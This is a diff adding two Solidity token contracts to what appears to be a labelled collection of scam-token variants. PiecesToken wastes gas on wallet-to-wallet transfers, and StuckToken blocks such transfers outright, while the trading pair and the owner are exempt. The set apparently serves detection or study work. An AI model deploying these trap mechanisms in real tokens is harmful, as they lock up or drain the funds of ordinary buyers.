@@ -22,6 +22,37 @@ contract RisingTaxToken is Traded {
     }
 }
 
+/// Honest: between wallets each whole token is written down, which costs gas.
+contract PiecesToken is Traded {
+    uint256 private constant GAS_OF_EACH = 10_000;
+
+    constructor(string memory name_, string memory symbol_, address pair_)
+        Erc20(name_, symbol_)
+        Traded(pair_)
+    {}
+
+    function _transfer(address from, address to, uint256 amount) internal override {
+        _move(from, to, amount);
+        if (from == pair || to == pair || _isOwner(from, to)) return;
+        uint256 enough = gasleft();
+        uint256 needed = amount / 1e18 * GAS_OF_EACH;
+        while (enough - gasleft() < needed) {}
+    }
+}
+
+/// Nothing passes between wallets, however little.
+contract StuckToken is Traded {
+    constructor(string memory name_, string memory symbol_, address pair_)
+        Erc20(name_, symbol_)
+        Traded(pair_)
+    {}
+
+    function _transfer(address from, address to, uint256 amount) internal override {
+        require(from == pair || to == pair || _isOwner(from, to), "stuck");
+        _move(from, to, amount);
+    }
+}
+
 /// Lets nobody but the owner sell more than a two hundredth of the supply at once.
 contract SmallSalesToken is Traded {
     constructor(string memory name_, string memory symbol_, address pair_)
